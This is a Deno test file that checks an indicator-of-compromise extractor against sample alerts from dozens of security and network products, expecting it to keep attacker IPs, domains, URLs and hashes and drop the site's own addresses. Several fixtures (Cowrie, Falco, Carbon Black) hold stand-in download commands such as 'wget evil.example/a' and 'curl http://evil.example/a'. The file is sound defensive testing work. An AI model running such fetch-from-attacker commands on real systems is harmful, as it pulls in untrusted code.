/**
 * Alerts of products that no source reads, and all that is asked for with the
 * sweep as it is by default: what is the site's own stands beside what is not.
 *
 * @module
 */
import { assertEquals } from "@std/assert";
import { parseAlert } from "../../lib/alert/alert.ts";
import { makeFinder } from "../../lib/alert/find.ts";
import { FIND_DEFAULTS, valuesOf } from "../stand_ins/alerts.ts";

const find = makeFinder({ ...FIND_DEFAULTS, sweep: "safe" });

function line(full_log: string): object {
  return { full_log };
}

/** What evil has, and an address of the site. */
const [E, U, I, O] = [
  "domain evil.example",
  "url http://evil.example/a",
  "ipv4 185.244.31.158",
  "8.7.6.5",
];

const PRODUCTS: readonly (readonly [string, object, readonly string[]])[] = [
  ["binds and nodes", {
    data: {
      bind_address: O,
      nodeName: "n1.own.com",
      node_ip: "8.7.6.4",
      node: "185.244.31.158",
    },
  }, [I]],
  ["vault", {
    data: {
      remote_address: "185.244.31.158",
      token: "hmac-sha256:" + "ab".repeat(32),
    },
  }, [I]],
  ["in words", line("my local ip is 8.7.6.5, yours is 185.244.31.158"), [I]],
  [
    "ise",
    line(
      "Device IP Address=8.7.6.5, NetworkDeviceIP=8.7.6.4, Calling-Station-ID=185.244.31.158",
    ),
    [I],
  ],
  [
    "pppd",
    line(
      "remote IP address 185.244.31.158, local IP address 8.7.6.5, primary DNS address 8.7.6.4",
    ),
    [I],
  ],
  ["dhclient", line("bound to 10.0.0.5; DNS server 8.7.6.5"), []],
  [
    "exim's interface",
    line("H=(x) [185.244.31.158]:4000 I=[8.7.6.5]:25 rejected"),
    [I],
  ],
  ["alertmanager", {
    data: {
      generatorURL: "https://prom.own.com/g",
      silenceURL: "https://a.own.com/s",
      runbook_url: "https://wiki.own.com/r",
    },
  }, []],
  [
    "tickets",
    line(
      "Ticket created: https://jira.own.com/1 see runbook https://wiki.own.com/x",
    ),
    [],
  ],
  ["starts and ends", {
    data: {
      mgmt_ip: "9.8.7.6",
      managementAddress: "9.8.7.5",
      nas_ip_address: "9.8.7.4",
      sensor: { ipv4: "9.8.7.3" },
      dest_fqdn: "evil.example",
      lookup: { name: "a.evil.example" },
    },
  }, [E, "domain a.evil.example"]],
  [
    "mikrotik nat",
    line(
      "proto TCP (SYN), 185.244.31.158:443->10.0.0.5:1234, NAT (185.244.31.158:443->8.7.6.5:1)->10.0.0.5, len 52",
    ),
    [I],
  ],
  [
    "asterisk security",
    line(
      'SecurityEvent="InvalidAccountID",LocalAddress="IPV4/UDP/8.7.6.5/5060",RemoteAddress="IPV4/UDP/185.244.31.158/5071"',
    ),
    [I],
  ],
  ["serv-u", {
    full_log:
      "(000002) Connected to 185.244.31.158 (local address 8.7.6.5, port 22)",
    data: { srcip: "185.244.31.158", dstip: O },
  }, [I]],
  [
    "unifi",
    line(
      "CEF:0|Ubiquiti|UniFi Network|9.3.45|201|x|4|src=10.0.0.5 dst=185.244.31.158 UNIFIdeviceIp=8.7.6.5",
    ),
    [I],
  ],
  ["teleport", {
    data: {
      event: "user.login",
      "addr.remote": "185.244.31.158:1234",
      "addr.local": "8.7.6.5:3080",
    },
  }, [I]],
  ["cowrie", {
    data: {
      src_ip: "185.244.31.158",
      url: "http://evil.example/a",
      shasum: "ab".repeat(32),
      input: "wget evil.example/a",
    },
  }, [I, U, E, "sha256 " + "ab".repeat(32)]],
  [
    "nginx ssl",
    line(
      "SSL_do_handshake() failed, client: 185.244.31.158, server: 8.7.6.5:443",
    ),
    [I],
  ],
  ["resolvers and reporters", {
    data: {
      resolver_ip: "9.8.7.6",
      dnsServerIp: "9.8.7.5",
      reporterIP: "9.8.7.4",
    },
  }, []],
  ["tokens' issuers", {
    data: { iss: "https://sts.own.com/", issuer: "https://login.own.com/" },
  }, []],
  [
    "xml's schemas",
    line('<Event xsi:schemaLocation="http://x.own.com/s.xsd"/>'),
    [],
  ],
  ["vuls", {
    rule: { groups: ["vuls"] },
    data: { vuls: { affected_packages_info: "1.1.1.4 => 1.1.1.9" } },
  }, []],
  ["qualys", {
    rule: { groups: ["qualysguard"] },
    data: { qualysguard: { ip: O } },
  }, []],
  ["traefik", {
    data: {
      ClientAddr: "185.244.31.158:4000",
      ClientHost: "185.244.31.158",
      RequestHost: "www.own.com",
      RequestAddr: "www.own.com",
      ServiceURL: "http://app.own.com:80",
      RequestPath: "/x",
      downstream: "x",
      request_Referer: "https://www.own.com/",
    },
  }, [I]],
  ["caddy", {
    data: {
      request: {
        remote_ip: "185.244.31.158",
        client_ip: "185.244.31.158",
        host: "www.own.com",
        uri: "/x?u=http://evil.example/a",
        headers: { "User-Agent": ["x"], Referer: ["https://www.own.com/"] },
      },
    },
  }, [I, U, E]],
  ["nginx json", {
    data: {
      remote_addr: "185.244.31.158",
      host: "www.own.com",
      request_uri: "/x",
      http_referrer: "https://www.own.com/y",
      upstream_addr: "8.7.6.5:80",
      server_name: "www.own.com",
      server_addr: O,
    },
  }, [I]],
  ["nginx json2", {
    data: {
      remote_addr: "185.244.31.158",
      http_host: "www.own.com",
      http_x_forwarded_for: "218.92.0.222",
    },
  }, [I, "ipv4 218.92.0.222"]],
  ["cloudfront", {
    data: {
      "c-ip": "185.244.31.158",
      "x-host-header": "www.own.com",
      "cs(Host)": "d1.cloudfront.net",
      "cs(Referer)": "https://www.own.com/a",
      "x-forwarded-for": "-",
    },
  }, [I]],
  ["envoy", {
    data: {
      authority: "www.own.com",
      downstream_remote_address: "185.244.31.158:1",
      upstream_host: "8.7.6.5:80",
      upstream_local_address: "8.7.6.4:1",
      downstream_local_address: "8.7.6.3:443",
      x_forwarded_for: "185.244.31.158",
    },
  }, [I]],
  ["zscaler", {
    data: {
      cip: "10.0.0.1",
      sip: "185.244.31.158",
      url: "evil.example/a",
      host: "evil.example",
      reqtype: "GET",
      clientpublicIP: O,
    },
  }, [I, E, ...["http", "https"].map((x) => `url ${x}://evil.example/a`)]],
  ["netskope", {
    data: {
      srcip: "10.0.0.1",
      dstip: "185.244.31.158",
      url: "evil.example/a",
      dsthost: "evil.example",
      domain: "evil.example",
    },
  }, [I, E, ...["http", "https"].map((x) => `url ${x}://evil.example/a`)]],
  [
    "meraki",
    line(
      "1700 MX urls src=10.0.0.1:1 dst=185.244.31.158:80 mac=00:11 request: GET http://evil.example/a",
    ),
    [I, U, E],
  ],
  [
    "mikrotik",
    line(
      "firewall,info input: in:ether1 out:(unknown 0), proto TCP (SYN), 185.244.31.158:5000->8.7.6.5:22, len 60",
    ),
    [I, "ipv4 8.7.6.5"],
  ],
  [
    "ubiquiti",
    line(
      "[WAN_LOCAL-default-D]IN=eth8 OUT= MAC=x SRC=185.244.31.158 DST=10.0.0.1 LEN=40",
    ),
    [I],
  ],
  [
    "esxi",
    line(
      "Hostd: [Originator@6876] Event 12 : Cannot login root@185.244.31.158",
    ),
    [I],
  ],
  [
    "proxmox",
    line(
      "pvedaemon[1]: authentication failure; rhost=::ffff:185.244.31.158 user=root@pam msg=no such user",
    ),
    [I],
  ],
  ["synology", line("auth: Host [185.244.31.158] failed to log in via [DSM]"), [
    I,
  ]],
  [
    "asterisk",
    line(
      `NOTICE[1] chan_sip.c: Registration from '"100" <sip:100@8.7.6.5>' failed for '185.244.31.158:5060' - Wrong password`,
    ),
    [I, "ipv4 8.7.6.5"],
  ],
  [
    "amavis",
    line(
      "amavis[1]: (1) Blocked SPAM {x}, [185.244.31.158]:1 [185.244.31.158] <a@evil.example> -> <bob@own.com>, Message-ID: <x@mail.evil.example>, mail_id: x",
    ),
    [I, "email a@evil.example", "email bob@own.com"],
  ],
  [
    "postfix sasl",
    line(
      "postfix/smtpd[1]: warning: unknown[185.244.31.158]: SASL LOGIN authentication failed: UGFzc3dvcmQ6",
    ),
    [I],
  ],
  [
    "cyrus",
    line(
      "cyrus/imaps[1]: badlogin: host [185.244.31.158] plaintext bob SASL(-13)",
    ),
    [I],
  ],
  [
    "haproxy ssl",
    line(
      "haproxy[1]: 185.244.31.158:1 [06/Feb/2009:12:14:14.655] https~: SSL handshake failure",
    ),
    [I],
  ],
  [
    "strongswan",
    line(
      "charon: 05[NET] received packet: from 185.244.31.158[500] to 8.7.6.5[500] (408 bytes)",
    ),
    [I, "ipv4 8.7.6.5"],
  ],
  [
    "wireguard",
    line("wg0: Handshake for peer 1 (185.244.31.158:51820) did not complete"),
    [I],
  ],
  ["k8s", {
    data: {
      sourceIPs: ["185.244.31.158"],
      requestURI: "/api/v1/pods",
      user: { username: "system:anonymous" },
      userAgent: "kubectl/v1.28.2",
    },
  }, [I]],
  ["falco", {
    data: {
      output:
        "Shell (command=bash -c curl evil.example/a container_id=3f4e9c0d1b2a image=ghcr.io/x/y:1.2.3.4)",
      output_fields: {
        "fd.name": "10.0.0.1:1->185.244.31.158:443",
        "proc.cmdline": "curl evil.example/a",
      },
    },
  }, [I, E, U]],
  ["okta", {
    data: {
      okta: {
        client: { ipAddress: "185.244.31.158" },
        debugContext: {
          debugData: { requestUri: "/x", threatSuspected: "true" },
        },
        request: { ipChain: [{ ip: "218.92.0.222" }] },
      },
    },
  }, [I, "ipv4 218.92.0.222"]],
  ["auth0", {
    data: {
      ip: "185.244.31.158",
      hostname: "own.eu.auth0.com",
      client_name: "x",
    },
  }, [I, "domain own.eu.auth0.com"]],
  ["cb", {
    data: {
      device_external_ip: O,
      device_internal_ip: "10.0.0.1",
      netconn_remote_ip: "185.244.31.158",
      netconn_domain: "evil.example",
      process_sha256: "ab".repeat(32),
      process_cmdline: "curl http://evil.example/a",
      alert_url: "https://defense.conferdeploy.net/x",
    },
  }, [I, E, U, "sha256 " + "ab".repeat(32)]],
  ["cortex", {
    data: {
      host_ip: O,
      action_remote_ip: "185.244.31.158",
      action_external_hostname: "evil.example",
      action_file_sha256: "ab".repeat(32),
      agent_hostname: "pc.own.com",
      alert_link: "https://x.paloaltonetworks.com",
    },
  }, [I, E, "sha256 " + "ab".repeat(32)]],
  ["darktrace", {
    data: {
      breachUrl: "https://darktrace.own.com/x",
      device: { ip: O, hostname: "pc.own.com" },
      triggeredComponents: [{
        destination: "185.244.31.158",
        connectionHostname: "evil.example",
      }],
    },
  }, [I, E]],
  ["bitdefender", {
    data: {
      computer_ip: O,
      computer_fqdn: "pc.own.com",
      url: "http://evil.example/a",
      malware_name: "x",
      hash: "ab".repeat(32),
    },
  }, [U, E, "sha256 " + "ab".repeat(32)]],
  [
    "kaspersky",
    line(
      "CEF:0|KasperskyLab|SecurityCenter|13|x|x|4|dhost=pc.own.com dst=8.7.6.5 fileHash=" +
        "ab".repeat(32) + " cs9=http://evil.example/a",
    ),
    ["ipv4 8.7.6.5", U, E, "sha256 " + "ab".repeat(32)],
  ],
  [
    "umbrella",
    line(
      '"2024-01-01 10:00:00","bob","bob,pc","10.0.0.1","8.7.6.5","Blocked","1 (A)","NOERROR","evil.example.","Malware"',
    ),
    ["ipv4 8.7.6.5"],
  ],
  ["proofpoint", {
    data: {
      senderIP: "185.244.31.158",
      url: "http://evil.example/a",
      sender: "a@evil.example",
      recipient: ["bob@own.com"],
      threatUrl: "https://threatinsight.proofpoint.com/x",
      threat: "ab".repeat(32),
    },
  }, [I, U, E, "email a@evil.example", "email bob@own.com"]],
  [
    "wordfence",
    line(
      "wordfence: Blocked login from 185.244.31.158 for https://www.own.com/wp-login.php",
    ),
    [I, "url https://www.own.com/wp-login.php", "domain www.own.com"],
  ],
  ["ecs host", {
    data: {
      host: { ip: [O], name: "pc.own.com" },
      source: { ip: "185.244.31.158" },
      server: { ip: O },
      observer: { ip: [O] },
      related: { ip: ["185.244.31.158", O] },
    },
  }, [I]],
  ["gcp nat", { data: { srcNatIp: O, src_ip: "185.244.31.158" } }, [I]],
  ["resolver field", {
    data: {
      dns_server: "8.7.6.5",
      resolver: "8.7.6.4",
      query: "evil.example",
      client_ip: "10.0.0.1",
    },
  }, [E]],
  ["iis xff", {
    rule: { groups: ["web"] },
    decoder: { name: "web-accesslog-iis6" },
    full_log:
      "2024-01-01 10:00:00 W3SVC1 WEB01 8.7.6.5 GET /x - 443 - 10.0.0.1 HTTP/1.1 Mozilla/5.0 - - www.own.com 200 0 0 1 2 3 185.244.31.158",
  }, [I]],
  ["modsec json", {
    data: {
      transaction: {
        client_ip: "185.244.31.158",
        host_ip: O,
        request: {
          uri: "/x",
          headers: { Host: "www.own.com", Referer: "http://evil.example/a" },
        },
      },
    },
  }, [I, U, E]],
  ["suri http own", {
    rule: { groups: ["ids"] },
    data: {
      src_ip: "185.244.31.158",
      dest_ip: "10.0.0.5",
      http: { hostname: "www.own.com", url: "/x" },
    },
  }, [I, "domain www.own.com", "url http://www.own.com/x"]],
  ["rdp gw", {
    data: {
      win: {
        system: {
          computer: "gw.own.com",
          providerName: "Microsoft-Windows-TerminalServices-Gateway",
        },
        eventXML: { ipAddress: "185.244.31.158", resource: "srv01.own.com" },
      },
    },
  }, [I]],
  ["4648", {
    rule: { groups: ["windows"] },
    decoder: { name: "windows_eventchannel" },
    data: {
      win: {
        system: { providerName: "Microsoft-Windows-Security-Auditing" },
        eventdata: {
          targetServerName: "dc01.own.com",
          targetInfo: "HTTP/dc01.own.com",
          ipAddress: "185.244.31.158",
          serviceName: "krbtgt/OWN.COM",
        },
      },
    },
  }, [I]],
  ["applocker", {
    data: {
      win: {
        eventdata: { fileHash: "0x" + "AB".repeat(32), fqbn: "O=EVIL CORP" },
      },
    },
  }, ["sha256 " + "ab".repeat(32)]],
  ["hash prefix", {
    data: {
      file: { digest: "sha256:" + "ab".repeat(32) },
      checksum: "MD5:44d88612fea8a8f36de82e1278abb02f",
    },
  }, ["sha256 " + "ab".repeat(32), "md5 44d88612fea8a8f36de82e1278abb02f"]],
  ["hash list", {
    data: {
      hashes: "SHA1=" + "ab".repeat(20) +
        ",MD5=44d88612fea8a8f36de82e1278abb02f,IMPHASH=44d88612fea8a8f36de82e1278abb02e",
    },
  }, ["sha1 " + "ab".repeat(20), "md5 44d88612fea8a8f36de82e1278abb02f"]],
  [
    "dhcp",
    line("dhcpd: DHCPACK on 8.7.6.5 to 00:11:22:33:44:55 (pc) via eth0"),
    ["ipv4 8.7.6.5"],
  ],
  ["ntp", line("ntpd[1]: Soliciting pool server 185.244.31.158"), [I]],
  ["time v6", line("uptime 2001:12:05:10:11:12:13:14"), []],
];

Deno.test("an alert of a product that no source reads gives what it holds", async (t) => {
  for (const [name, alert, expected] of PRODUCTS) {
    await t.step(name, () => {
      const found = find(parseAlert(JSON.stringify(alert)));
      assertEquals(valuesOf(found).sort(), [...new Set(expected)].sort());
    });
  }
});
